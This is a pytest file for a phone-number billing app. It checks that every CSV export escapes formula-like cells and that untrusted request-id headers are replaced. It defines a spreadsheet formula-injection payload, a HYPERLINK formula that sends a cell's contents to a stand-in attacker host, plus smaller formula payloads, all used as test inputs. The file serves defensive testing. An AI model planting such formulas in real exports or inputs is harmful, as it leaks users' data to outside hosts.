"""Every CSV the app writes is formula-safe (numbers.md §7.8), and X-Request-Id is not trusted (issue 8 §4).

A cell a spreadsheet would run (=, +, -, @, tab, CR first) gets one leading ', except a whole E.164
number or a plain decimal; import strips that ' again, so exports round-trip.
"""
import csv
import io
import re
from datetime import date, datetime, timezone

import pytest
import sqlalchemy as sa

from did_app import csv_out
from did_app.audit import Actor
from did_app.billing import service as billing
from did_app.db import db
from did_app.imports import parser
from did_app.lifecycle import release
from did_app.models import AuditEvent
from did_app.workspace import ensure_workspace
from tests import factories as f
from tests.conftest import T0, csrf_from, login

CLI = Actor(None, "cli", "cli")
EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
_SAFE = re.compile(r"\+[0-9]{6,15}|-?[0-9]+(\.[0-9]+)?")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _runnable(rows) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [c for r in rows for c in r if c and c[0] in "=+-@\t\r" and not _SAFE.fullmatch(c)]


def _viewer(app):
    client = app.test_client()
    login(client, "viewer")
    return client


# ---- the writer ----------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "written"), [
    (EVIL, "'" + EVIL), ("+SUM(1)", "'+SUM(1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("+14155552671", "+14155552671"), ("-1.50", "-1.50"), ("12", "12"), ("plain", "plain"),
    ("", ""), (None, ""), (7, "7"), (-3, "-3"), (True, "True"),
])
def test_the_writer_guards_every_cell(value, written):
    text = csv_out.text(("a",), [[value]])
    assert _rows(text)[1] == [written]
    assert text.endswith("\r\n")


def test_an_exported_cell_imports_back_unchanged():
    for value in (EVIL, "+SUM(1)", "-2+3", "@cmd", "+14155552671", "-1.50", "Front desk"):
        row = _rows(csv_out.text(("description",), [[value]]))[1]
        assert parser.cell(row, {"description": 0}, "description") == value


def test_stream_yields_the_header_and_every_row_in_pieces():
    pieces = list(csv_out.stream(("n",), ([i] for i in range(1200)), every=500))
    assert len(pieces) == 3
    assert _rows("".join(pieces)) == [["n"], *[[str(i)] for i in range(1200)]]


# ---- X-Request-Id ------------------------------------------------------------------------------------

def _top_up_with(app, request_id: str | None) -> str:
    """An admin top-up sent with `request_id` as X-Request-Id; the stored audit row's request id."""
    client = app.test_client()
    login(client, "admin")
    with app.app_context():
        ensure_workspace(db.session)
        db.session.commit()
    token = csrf_from(client.get("/billing").get_data(as_text=True))
    headers = {"X-Request-Id": request_id} if request_id is not None else {}
    response = client.post("/billing/top-up", data={"csrf_token": token, "top_up-amount": "5.00"}, headers=headers)
    assert response.status_code == 303
    with app.app_context():
        return db.session.scalar(sa.select(AuditEvent.request_id).where(AuditEvent.action == "balance.top_up"))


@pytest.mark.parametrize("given", ["abc-123.X_y", "a" * 32])
def test_a_short_plain_request_id_is_kept(app, given):
    assert _top_up_with(app, given) == given


@pytest.mark.parametrize("given", [EVIL, "a" * 33, "a" * 5000, "id with spaces", "ünïcode", "x;y", ""])
def test_any_other_request_id_is_replaced_by_a_generated_one(app, given):
    stored = _top_up_with(app, given)  # a 5,000-character id must not fail the write (32 on PostgreSQL)
    assert stored != given and re.fullmatch(r"[0-9a-f]{12}", stored)


def test_a_generated_request_id_when_none_is_sent(app):
    assert re.fullmatch(r"[0-9a-f]{12}", _top_up_with(app, None))


# ---- every export neutralises the payload -------------------------------------------------------------

def test_activity_csv_neutralises_request_id_note_labels_and_ip(app):
    with app.app_context():
        # a row stored before ids were checked, or written by code that trusts its input
        db.session.add(AuditEvent(at=T0, actor_id=None, actor_label=EVIL, source="web", action="number.updated",
                                  object_type="number", object_id=1, object_label=EVIL, before={"d": EVIL},
                                  after={"d": "x"}, note=EVIL, ip="@1.2.3.4", request_id="=HYPERLINK(1)"))
        db.session.commit()
    response = _viewer(app).get("/activity/export.csv")
    rows = _rows(response.get_data(as_text=True))
    assert _runnable(rows) == []
    row = next(dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[3] == "number.updated")
    assert row["request_id"] == "'=HYPERLINK(1)" and row["note"] == "'" + EVIL and row["actor"] == "'" + EVIL
    assert row["object"] == "'" + EVIL and row["ip"] == "'@1.2.3.4"


def test_ledger_csv_neutralises_notes_and_actor(app):
    with app.app_context():
        ensure_workspace(db.session)
        db.session.commit()
        billing.top_up(Actor(None, "cli", EVIL), 500, EVIL)
        billing.adjust(CLI, -100, "-2+3")
    rows = _rows(_viewer(app).get("/billing/ledger.csv").get_data(as_text=True))
    assert len(rows) == 3 and _runnable(rows) == []
    assert "'" + EVIL in rows[2] and "'-2+3" in rows[1] and "-1.00" in rows[1]


def test_forecast_csv_neutralises_pool_names(app):
    with app.app_context():
        ensure_workspace(db.session)
        f.make_pool(total=2, renew_date=date(2026, 12, 1), name=EVIL)
        f.make_number(number="+14155550131", expires_at=datetime(2026, 12, 1, 9, tzinfo=timezone.utc),
                      billing_anchor_day=1, monthly_price_minor=400)
    rows = _rows(_viewer(app).get("/billing/forecast.csv?days=30").get_data(as_text=True))
    assert _runnable(rows) == []
    assert [r[2] for r in rows[1:]] == ["'" + EVIL, "+14155550131"]


def test_released_and_numbers_csv_neutralise_free_text(app):
    with app.app_context():
        trunk = f.make_voice_trunk(name="@trunk")
        a = f.make_number(number="+14155550141", description=EVIL, city="-City")
        f.make_number(number="+14155550142", description="+SUM(1)", voice_route_id=trunk.id)
        release.release_numbers(db.session, CLI, [a.id], "expired")
        db.session.commit()
        f.make_number(number="+14155550143", description="\t=1+1", region="=R")
    client = _viewer(app)
    released = _rows(client.get("/billing/released.csv").get_data(as_text=True))
    assert len(released) == 2 and _runnable(released) == [] and "'" + EVIL in released[1]
    numbers = _rows(client.get("/numbers/export.csv").get_data(as_text=True))
    assert len(numbers) == 3 and _runnable(numbers) == []
    cells = {c for r in numbers[1:] for c in r}
    assert {"'+SUM(1)", "'@trunk", "'\t=1+1", "'=R", "+14155550142", "1.50"} <= cells


def test_import_report_csv_neutralises_the_cells_as_typed(app):
    client = app.test_client()
    login(client, "operator")
    with app.app_context():
        ensure_workspace(db.session).balance_minor = 10_000
        db.session.commit()
    text = f'number,monthly_price\n+14155550101,1.00\n"{EVIL.replace(chr(34), chr(34) * 2)}",1.00\n@SUM(1),1.00\n'
    token = csrf_from(client.get("/numbers/import").get_data(as_text=True))
    html = client.post("/numbers/import", data={"csrf_token": token, "dry_run": "y",
                                                "file": (io.BytesIO(text.encode()), "n.csv")},
                       content_type="multipart/form-data").get_data(as_text=True)
    report_url = re.search(r'href="(/numbers/import/[^"]+/report.csv)"', html).group(1)
    rows = _rows(client.get(report_url).get_data(as_text=True))
    assert _runnable(rows) == []
    assert [r[1] for r in rows[1:]] == ["+14155550101", "'" + EVIL, "'@SUM(1)"]


def test_every_csv_response_in_the_app_uses_the_one_writer():
    """No module but csv_out builds CSV text itself (grep-style guard against a new raw csv.writer)."""
    import pathlib

    root = pathlib.Path(csv_out.__file__).parent
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csv_out.py" and re.search(r"csv\.(writer|DictWriter)\(", p.read_text())]
    assert offenders == []


def test_the_import_parser_undoes_exactly_the_writers_guard():
    assert parser._TRIGGERS == csv_out.TRIGGERS
